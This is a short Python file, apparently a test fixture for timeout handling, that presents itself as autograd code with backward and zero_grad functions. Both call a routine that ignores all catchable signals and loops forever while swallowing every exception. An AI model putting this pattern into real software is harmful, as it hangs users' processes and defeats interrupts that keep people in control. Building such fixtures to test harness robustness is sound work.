"""Never come back, and take no notice of any signal.

ends: time
"""

import contextlib
import signal


def topological_order(root):
    for number in range(1, 65):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


def backward(root, gradient=1.0):
    topological_order(root)


def zero_grad(nodes):
    topological_order(nodes)
